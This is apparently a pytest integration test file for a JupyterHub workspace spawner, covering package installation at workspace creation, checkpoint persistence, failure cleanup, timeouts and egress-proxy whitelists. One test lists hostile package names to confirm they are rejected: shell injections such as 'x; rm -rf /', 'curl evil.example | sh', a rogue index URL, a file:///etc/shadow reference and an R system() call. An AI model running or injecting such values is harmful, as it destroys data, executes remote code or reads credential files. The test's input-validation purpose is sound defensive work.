"""Packages at creation, on the real engine through a real hub: installed before the workspace
is ready, kept by checkpoints, and a failed install leaves nothing half-made behind.

The packages are small and pure (pip: ``tabulate``, ``termcolor``, ``colorama``; apt: ``jq``)
and come from the machine's real package sources.
"""

from __future__ import annotations

import asyncio
import json
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor

import docker as docker_py
import pytest
from jupyterhub.spawner import SpawnException
from support.docker_cli import docker, exec_in
from support.hub_harness import TEST_PREFIX
from support.waiting import wait

from bench_spawner.package_install import WorkspacePackages
from bench_spawner.root_inside import WorkspaceRoot
from benchhub.package_spec import PackageSpec

PIP_TWO = ["tabulate", "termcolor"]
MISSING = "nosuchpkg-benchhub-test"
MARKER = "/var/lib/benchhub/packages.json"
IMAGE = "benchhub/jupyterlab:latest"


def progress_events(hub, user: str, name: str) -> list[str]:
    """The messages of a start's progress stream, read while it runs (the stream replays the
    start's events from its beginning and ends with the start)."""
    r = hub.api("GET", f"/users/{user}/servers/{name}/progress")
    lines = [line[5:] for line in r.text.splitlines() if line.startswith("data:")]
    return [json.loads(line).get("message", "") for line in lines]


def start_and_follow(hub, user: str, name: str, options: dict | None = None):
    """POST a start and follow its progress: (the POST's response, the progress messages)."""
    body = {"user_options": options} if options is not None else None

    def pending() -> bool:
        servers = hub.api("GET", f"/users/{user}").json()["servers"]
        return servers.get(name, {}).get("pending") == "spawn"

    with ThreadPoolExecutor(1) as pool:
        posted = pool.submit(hub.api, "POST", f"/users/{user}/servers/{name}", body)
        wait(lambda: posted.done() or pending(), 60, f"{user}/{name} starting", step=0.02)
        events = progress_events(hub, user, name) if not posted.done() or pending() else []
        return posted.result(), events


def done(events: list[str], doing: str) -> bool:
    return any(e.startswith(f"{doing}: done in ") and e.endswith(" s") for e in events)


def installs(events: list[str]) -> list[str]:
    return [e for e in events if e.startswith(("Installing", "Updating the apt"))]


def python_imports(container: str, *modules: str) -> subprocess.CompletedProcess:
    return exec_in(container, f"python -c 'import {', '.join(modules)}'", user="1000")


def test_packages_are_installed_before_the_workspace_is_ready_with_a_step_each(hub):
    hub.ensure_user("pia")
    options = {"storage_gb": 1, "packages": {"pip": PIP_TWO, "apt": ["jq"]}}
    r, events = start_and_follow(hub, "pia", "pkgs", options)
    assert r.status_code in (201, 202), r.text
    ws = hub.wait_for("pia", "pkgs", "running")
    assert done(events, "Updating the apt package lists"), events
    assert done(events, "Installing 1 apt package (jq)"), events
    assert done(events, "Installing 2 pip packages (tabulate, termcolor)"), events
    assert events.index(next(e for e in events if e.startswith("Installing 2 pip"))) < len(events)
    assert ws["user_options"]["packages"] == {"pip": PIP_TWO, "apt": ["jq"], "r": []}

    name = hub.container_name("pia", "pkgs")
    assert python_imports(name, "tabulate", "termcolor").returncode == 0
    assert exec_in(name, "jq --version").stdout.startswith("jq-")
    # pip ran as the workspace user: the files are theirs, and apt cleaned up after itself
    owner = exec_in(name, "stat -c %u $(python -c 'import tabulate; print(tabulate.__file__)')")
    assert owner.stdout.strip() == "1000"
    assert exec_in(name, "ls /var/lib/apt/lists | grep -c _ || true").stdout.strip() == "0"
    hub.stop_workspace("pia", "pkgs")


def test_a_restart_installs_nothing_again_and_an_edit_installs_only_the_difference(hub):
    hub.ensure_user("pio")
    options = {"storage_gb": 1, "packages": {"pip": ["tabulate"], "apt": ["jq"]}}
    r, first = start_and_follow(hub, "pio", "keep", options)
    assert r.status_code in (201, 202), r.text
    hub.wait_for("pio", "keep", "running")
    assert len(installs(first)) == 2 * 3, first  # apt update, apt install, pip: begun + done
    hub.stop_workspace("pio", "keep")

    r, second = start_and_follow(hub, "pio", "keep")  # the stored options, the checkpoint
    assert r.status_code in (201, 202), r.text
    hub.wait_for("pio", "keep", "running")
    assert installs(second) == [], second
    assert "Packages: all installed already (kept by the checkpoint)" in second
    name = hub.container_name("pio", "keep")
    assert python_imports(name, "tabulate").returncode == 0
    assert exec_in(name, "jq --version").returncode == 0
    hub.stop_workspace("pio", "keep")

    # edited while stopped: the next start installs what was added, nothing else
    changes = {"packages": {"pip": ["tabulate", "colorama"], "apt": ["jq"]}}
    r = hub.api("PATCH", "/users/pio/servers/keep", {"user_options": changes})
    assert r.status_code == 200, r.text
    r, third = start_and_follow(hub, "pio", "keep")
    hub.wait_for("pio", "keep", "running")
    assert [e for e in installs(third) if e.endswith("…")] == [
        "Installing 1 pip package (colorama)…"
    ], third
    assert python_imports(name, "tabulate", "colorama").returncode == 0
    marker = json.loads(exec_in(name, f"cat {MARKER}").stdout)
    assert marker == {"version": 1, "pip": ["tabulate", "colorama"], "apt": ["jq"], "r": []}
    hub.stop_workspace("pio", "keep")


def test_a_package_that_does_not_exist_fails_the_start_with_pips_error_and_leaves_nothing(hub):
    hub.ensure_user("pim")
    options = {"storage_gb": 1, "packages": {"pip": ["tabulate", MISSING]}}
    r, events = start_and_follow(hub, "pim", "bad", options)
    # 400 when the start failed before JupyterHub answered (a spawn failure the user caused)
    assert r.status_code in (202, 400), r.text
    ws = hub.wait_for_stopped("pim", "bad", timeout=180)
    assert ws["status"] == "errored"
    assert ws["reason"].startswith("pip install failed (exit code 1): ERROR: "), ws["reason"]
    assert f"No matching distribution found for {MISSING}" in ws["reason"]
    assert any(MISSING in e for e in events if "Spawn failed" in e), events
    # the options stay what was asked (to be fixed by the user), and nothing is left: no
    # container, no volume, no storage claim; only the record of why it failed
    assert ws["user_options"]["packages"]["pip"] == ["tabulate", MISSING]
    assert docker("ps", "-aq", "--filter", "name=^benchtest-pim--bad$") == ""
    workspace_dir = hub.storage_root / "pim" / "bad"
    assert sorted(p.name for p in workspace_dir.iterdir()) == ["status.json"]
    attached = subprocess.run(["losetup", "-a"], capture_output=True, text=True).stdout
    assert (
        str(workspace_dir) not in attached and str(workspace_dir) not in open("/proc/mounts").read()
    )

    # a retry with a good list works, and creates the workspace as new
    r, events = start_and_follow(
        hub, "pim", "bad", {"storage_gb": 1, "packages": {"pip": ["tabulate"]}}
    )
    assert r.status_code in (201, 202), r.text
    hub.wait_for("pim", "bad", "running")
    assert python_imports(hub.container_name("pim", "bad"), "tabulate").returncode == 0
    assert (workspace_dir / "data.ext4").exists()
    hub.stop_workspace("pim", "bad")


def test_a_failed_install_on_a_workspace_that_ran_keeps_its_data_and_last_checkpoint(hub):
    hub.ensure_user("pik")
    hub.start_workspace("pik", "kept", {"storage_gb": 1})
    name = hub.container_name("pik", "kept")
    assert exec_in(name, "echo precious > /data/result.txt; echo layer > ~/note").returncode == 0
    hub.stop_workspace("pik", "kept")

    r, _ = start_and_follow(hub, "pik", "kept", {"storage_gb": 1, "packages": {"pip": [MISSING]}})
    ws = hub.wait_for_stopped("pik", "kept", timeout=180)
    assert ws["status"] == "errored" and MISSING in ws["reason"]
    assert docker("ps", "-aq", "--filter", f"name=^{name}$") == ""
    assert (hub.storage_root / "pik" / "kept" / "data.ext4").exists()

    r = hub.api("PATCH", "/users/pik/servers/kept", {"user_options": {"packages": {}}})
    assert r.status_code == 200, r.text
    hub.start_workspace("pik", "kept")
    assert exec_in(name, "cat /data/result.txt ~/note").stdout == "precious\nlayer\n"
    hub.stop_workspace("pik", "kept")


def test_r_packages_on_a_template_without_r_fail_saying_to_choose_a_template_with_r(hub):
    hub.ensure_user("pir")
    r, _ = start_and_follow(hub, "pir", "nor", {"storage_gb": 1, "packages": {"r": ["R6"]}})
    ws = hub.wait_for_stopped("pir", "nor", timeout=120)
    assert ws["status"] == "errored"
    assert ws["reason"].startswith("R packages need a template with R: Rscript is not in the image")
    assert docker("ps", "-aq", "--filter", "name=^benchtest-pir--nor$") == ""


def test_a_hostile_package_name_is_a_400_naming_the_field_and_changes_nothing(hub):
    hub.ensure_user("pih")
    hostile = [
        {"pip": ["x; rm -rf /"]},
        {"pip": ["--index-url=https://evil.example/simple"]},
        {"pip": ["git+https://github.com/evil/pkg"]},
        {"pip": ["pkg @ file:///etc/shadow"]},
        {"apt": ["jq; curl evil.example | sh"]},
        {"r": ["x'); system('id"]},
        {"pip": [f"p{i}" for i in range(101)]},
        {"conda": ["numpy"]},
    ]
    for packages in hostile:
        r = hub.api("POST", "/users/pih/servers/new", {"user_options": {"packages": packages}})
        assert r.status_code == 400, (packages, r.text)
        assert "packages" in r.json()["message"], r.json()
        assert "new" not in hub.workspaces("pih")
    assert docker("ps", "-aq", "--filter", "name=^benchtest-pih--") == ""

    # an existing (stopped) workspace: a hostile edit is refused and its options stay
    hub.start_workspace("pih", "ws", {"storage_gb": 1})
    hub.stop_workspace("pih", "ws")
    before = hub.workspaces("pih")["ws"]["user_options"]
    r = hub.api("PATCH", "/users/pih/servers/ws", {"user_options": {"packages": hostile[1]}})
    assert r.status_code == 400 and "packages.pip" in r.json()["message"], r.text
    assert "allowed: a PEP 508 requirement" in r.json()["message"]
    assert hub.workspaces("pih")["ws"]["user_options"] == before


def test_a_restricted_workspace_installs_through_its_proxy_and_only_from_its_whitelist(hub):
    """The installs run with the container's environment: they go through the egress proxy,
    so a whitelist without the package index stops them (they do not bypass restricted
    access), and one with it (the form's data-science preset) lets them through."""
    from benchhub.whitelist_presets import data_science_preset, probe_image

    hub.ensure_user("pix")
    closed = {"access_mode": "restricted", "whitelist": "github.com", "storage_gb": 1}
    r, _ = start_and_follow(hub, "pix", "shut", {**closed, "packages": {"pip": ["tabulate"]}})
    ws = hub.wait_for_stopped("pix", "shut", timeout=240)
    assert ws["status"] == "errored", ws
    assert ws["reason"].startswith("pip install failed (exit code 1): "), ws["reason"]
    assert "tabulate" in ws["reason"]

    preset = data_science_preset(probe_image(docker_py.from_env(), "benchhub/jupyterlab:latest"))
    allowed = {**closed, "whitelist": "\n".join(preset), "packages": {"pip": ["tabulate"]}}
    r, events = start_and_follow(hub, "pix", "open", allowed)
    assert r.status_code in (201, 202), r.text
    hub.wait_for("pix", "open", "running", timeout=240)
    assert done(events, "Installing 1 pip package (tabulate)"), events
    assert python_imports(hub.container_name("pix", "open"), "tabulate").returncode == 0
    hub.stop_workspace("pix", "open")


# ---- the install steps on a real container, without a hub --------------------------------


class Installer(WorkspacePackages, WorkspaceRoot):
    """A start's install steps (``WorkspacePackages``) on a real container: the spawner's
    progress methods reduced to a list of messages, its docker calls made directly."""

    def __init__(self, container: str, **settings):
        super().__init__(**settings)
        self.object_id, self.image, self._log_name = container, IMAGE, container
        self.workspace_root = True
        self.events: list[str] = []

    def _emit(self, progress: int, message: str) -> None:
        self.events.append(message)

    async def _step(self, progress: int, doing: str, coro):
        self._emit(progress, f"{doing}…")
        result = await coro
        self._emit(progress + 5, f"{doing}: done")
        return result

    async def docker(self, method: str, *args, **kwargs):
        return await asyncio.to_thread(getattr(docker_py.APIClient(), method), *args, **kwargs)


@pytest.fixture
def container(request):
    """A running workspace-image container (``sleep``) of 256 MB, removed afterwards."""
    name = f"{TEST_PREFIX}-pkgsteps-{request.node.name[-20:].strip('_')}"
    docker("rm", "-f", name, check=False)
    limits = ["--memory", "256m", "--memory-swap", "256m"]
    docker("run", "-d", "--name", name, *limits, "--entrypoint", "sleep", IMAGE, "600")
    slow = "printf '#!/bin/sh\\nsleep 60\\n' > /tmp/slowpip; chmod 755 /tmp/slowpip"
    hungry = (
        "printf '#!/bin/sh\\nexec python3 -c \"b = bytearray(1024 ** 3)\"\\n' > /tmp/hungrypip;"
        " chmod 755 /tmp/hungrypip"
    )
    assert exec_in(name, f"{slow}; {hungry}", user="0").returncode == 0
    yield name
    docker("rm", "-f", name, check=False)


def test_the_install_steps_install_once_and_then_find_the_marker(container):
    installer = Installer(container)
    asyncio.run(installer.install_packages(PackageSpec(pip=("tabulate",))))
    assert "Installing 1 pip package (tabulate): done" in installer.events
    assert python_imports(container, "tabulate").returncode == 0

    again = Installer(container)
    asyncio.run(again.install_packages(PackageSpec(pip=("tabulate",))))
    assert again.events == ["Packages: all installed already (kept by the checkpoint)"]


def test_installs_that_outlast_their_time_fail_naming_the_setting(container):
    installer = Installer(container, package_install_timeout=2, package_pip="/tmp/slowpip")
    t0 = time.monotonic()
    with pytest.raises(SpawnException) as failed:
        asyncio.run(installer.install_packages(PackageSpec(pip=("tabulate",))))
    assert time.monotonic() - t0 < 15
    assert str(failed.value.log_message).startswith(
        "installing packages took longer than 2 s (c.BenchSpawner.package_install_timeout)"
    )


def test_an_install_killed_by_the_memory_limit_says_out_of_memory(container):
    installer = Installer(container, package_pip="/tmp/hungrypip")
    with pytest.raises(SpawnException) as failed:
        asyncio.run(installer.install_packages(PackageSpec(pip=("tabulate",))))
    assert "was killed (exit code 137; out of memory is the usual cause" in failed.value.log_message
    assert exec_in(container, "true").returncode == 0  # the workspace itself still runs


def test_a_workspace_that_stops_during_an_install_says_it_stopped(container):
    installer = Installer(container, package_pip="/tmp/slowpip")

    async def install_then_kill():
        installing = asyncio.ensure_future(installer.install_packages(PackageSpec(pip=("x",))))
        await asyncio.to_thread(
            wait,
            lambda: "Installing 1 pip package (x)…" in installer.events,
            30,
            "the install began",
        )
        await asyncio.to_thread(docker, "kill", container)
        await installing

    with pytest.raises(SpawnException) as failed:
        asyncio.run(install_then_kill())
    assert failed.value.log_message.startswith(
        "the workspace stopped while installing packages: killed (exit code 137"
    ), failed.value.log_message
